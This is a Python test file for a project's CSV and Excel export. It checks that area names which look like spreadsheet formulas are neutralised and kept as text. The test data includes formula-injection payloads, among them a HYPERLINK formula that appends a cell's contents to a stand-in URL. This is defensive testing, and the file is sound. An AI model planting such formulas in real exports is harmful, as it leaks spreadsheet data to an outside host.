"""hotspots.csv and hotspots.xlsx keep every text a text: an area named like a formula
(``=HYPERLINK(...)``, ``+1``, ``-1``, ``@SUM``) never runs in a spreadsheet."""

from __future__ import annotations

import csv

import openpyxl
import pandas as pd
import xlsxwriter

from zicht.engine.outputs.lists import neutralised, write_csv
from zicht.engine.outputs.workbook import write_xlsx

NAMES = ['=HYPERLINK("http://x.invalid/?"&A1,"klik")', "+31 buurt", "-1+1", "@SUM(A1)", "\tTab"]
HEADERS = {"thema": "Thema", "naam": "Naam", "risico": "Risico"}


def _table() -> pd.DataFrame:
    names = [*NAMES, "Oude Pijp"]
    return pd.DataFrame(
        {"thema": ["Drugs"] * len(names), "naam": names, "risico": [-5.0, *range(len(names) - 1)]}
    )


def test_no_name_becomes_a_formula_in_the_csv(tmp_path):
    write_csv(_table(), tmp_path / "h.csv", HEADERS, "nl")
    with open(tmp_path / "h.csv", encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f, delimiter=";"))
    names = [row[1] for row in rows[1:]]
    assert names[:-1] == ["'" + name for name in NAMES]
    assert names[-1] == "Oude Pijp"  # an ordinary name as it is
    assert rows[1][2] == "-5,0"  # a negative number stays a number


def test_no_name_becomes_a_formula_in_the_xlsx(tmp_path):
    write_xlsx(_table(), tmp_path / "h.xlsx", HEADERS, ["Bron: CBS"], "nl")
    sheet = openpyxl.load_workbook(tmp_path / "h.xlsx")["Drugs"]
    cells = [row[0] for row in sheet.iter_rows(min_row=2, min_col=1, max_col=1)]
    assert [c.value for c in cells] == [*NAMES, "Oude Pijp"]
    assert {c.data_type for c in cells} == {"s"}  # text cells, none a formula
    assert sheet.cell(row=2, column=2).data_type == "n"


def test_the_control_xlsxwriter_by_default_writes_the_name_as_a_formula(tmp_path):
    """Without ``strings_to_formulas = False`` the same name is a live formula."""
    workbook = xlsxwriter.Workbook(str(tmp_path / "x.xlsx"))
    workbook.add_worksheet().write_row(0, 0, [NAMES[0]])
    workbook.close()
    cell = openpyxl.load_workbook(tmp_path / "x.xlsx").active.cell(row=1, column=1)
    assert cell.data_type == "f"


def test_only_formula_like_texts_are_neutralised():
    assert neutralised("=1+1") == "'=1+1" and neutralised("\rx") == "'\rx"
    assert neutralised("Buurt =1") == "Buurt =1" and neutralised(-1.5) == -1.5
